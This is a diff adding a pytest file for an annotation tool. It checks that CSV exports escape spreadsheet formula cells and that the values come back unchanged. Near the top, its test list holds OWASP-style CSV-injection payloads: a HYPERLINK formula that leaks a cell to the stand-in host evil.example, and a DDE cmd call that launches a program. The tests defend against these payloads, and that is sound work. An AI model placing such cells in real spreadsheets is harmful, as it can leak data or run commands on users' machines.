@@ -1,0 +1,86 @@
+"""Issue 31 (side files, checkpoints, staging folders, spreadsheets): what an output's files may do to a
+user's data, tested on real runs in temporary folders."""
+import csv
+import json
+from pathlib import Path
+
+import pandas as pd
+
+from judge import annotate as annotate_cmd
+from judge.core.records import read_records
+from judge.core.sheets import guard_cell, unguard_cell
+from tests.conftest import run_cli
+
+# Cells a spreadsheet would run (OWASP's CSV injection list), and one that already starts with an apostrophe.
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-2", "'quoted",
+           "\tTAB", "\rCR", "plain"]
+
+
+def _read_cells(path: Path) -> list[dict[str, str]]:
+    with open(path, newline="", encoding="utf-8") as handle:
+        return list(csv.DictReader(handle))
+
+
+def _fill(path: Path, labels: dict[str, str]) -> None:
+    """An annotator fills the label column, keeping every other cell as the sheet has it."""
+    rows = _read_cells(path)
+    for row in rows:
+        row["label"] = labels[unguard_cell(row["id"])]
+    with open(path, "w", newline="", encoding="utf-8") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+
+
+def test_guard_is_undone_exactly():
+    for value in [*HOSTILE, "''two", "", "x=1"]:
+        assert unguard_cell(guard_cell(value)) == value
+    assert guard_cell("plain") == "plain" and guard_cell(-2) == -2 and guard_cell("'q") == "''q"
+
+
+def test_formula_cells_are_neutralised_in_every_sheet_and_come_back_unchanged(tmp_path, capsys):
+    rows = [{"id": cell, "prompt": f"p {i}", "response": cell, "=evil": cell, "identity": "a" if i % 2 else "b"}
+            for i, cell in enumerate(HOSTILE)]
+    src = tmp_path / "hostile.jsonl"
+    src.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
+    out = tmp_path / "round"
+    code, _, err = run_cli(annotate_cmd, ["export", str(src), "--budget", str(len(rows)), "--taxonomy", "chehbouni2024",
+                                          "--annotators", "alice", "bob", "--show", "=evil", "--out", str(out)], capsys)
+    assert code == 0, err
+    for sheet in ("alice.csv", "bob.csv", "items.csv"):
+        cells = _read_cells(out / sheet)
+        assert "'=evil" in cells[0] and "=evil" not in cells[0], sheet
+        for row in cells:
+            for value in row.values():
+                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (sheet, value)
+        assert {r["response"] for r in cells} == {guard_cell(c) for c in HOSTILE}, sheet
+    assert "apostrophe" in (out / "GUIDELINES.md").read_text()
+    # alice and bob disagree on every other item: the adjudicator's sheet gets those
+    _fill(out / "alice.csv", {c: "answer" for c in HOSTILE})
+    _fill(out / "bob.csv", {c: "refusal" if i % 2 else "answer" for i, c in enumerate(HOSTILE)})
+    labels = tmp_path / "labels.jsonl"
+    code, _, err = run_cli(annotate_cmd, ["import", str(out), str(out / "alice.csv"), str(out / "bob.csv"),
+                                          "--taxonomy", "chehbouni2024", "--out", str(labels)], capsys)
+    assert code == 0, err
+    back = read_records(labels).set_index("id")
+    assert sorted(back.index) == sorted(HOSTILE)
+    for cell in HOSTILE:  # no real value changed: ids, texts and the hostile column come back as they were
+        assert back.loc[cell, "response"] == cell and back.loc[cell, "=evil"] == cell
+    code, _, err = run_cli(annotate_cmd, ["adjudicate", str(labels), "--taxonomy", "chehbouni2024", "--out", str(tmp_path / "adj")], capsys)
+    assert code == 0, err
+    sheet = _read_cells(tmp_path / "adj" / "adjudicator.csv")
+    disputed = [c for i, c in enumerate(HOSTILE) if i % 2]
+    assert sorted(r["id"] for r in sheet) == sorted(guard_cell(c) for c in disputed)
+    assert "apostrophe" in (tmp_path / "adj" / "README.md").read_text()
+    _fill(tmp_path / "adj" / "adjudicator.csv", {c: "refusal" for c in disputed})
+    final = tmp_path / "final.jsonl"
+    code, _, err = run_cli(annotate_cmd, ["resolve", str(labels), str(tmp_path / "adj" / "adjudicator.csv"), "--taxonomy", "chehbouni2024",
+                                          "--out", str(final)], capsys)
+    assert code == 0, err
+    resolved = read_records(final).set_index("id")
+    assert resolved["label"].to_dict() == {c: "refusal" if c in disputed else "answer" for c in HOSTILE}
+    assert (resolved["response"] == resolved.index).all()
+    # a later round excludes the items of this one through its items.csv: every hostile id is recognised
+    code, _, err = run_cli(annotate_cmd, ["export", str(src), "--budget", "3", "--taxonomy", "chehbouni2024", "--exclude", str(out / "items.csv"),
+                                          "--out", str(tmp_path / "round2")], capsys)
+    assert code == 2 and "no records left" in err, err
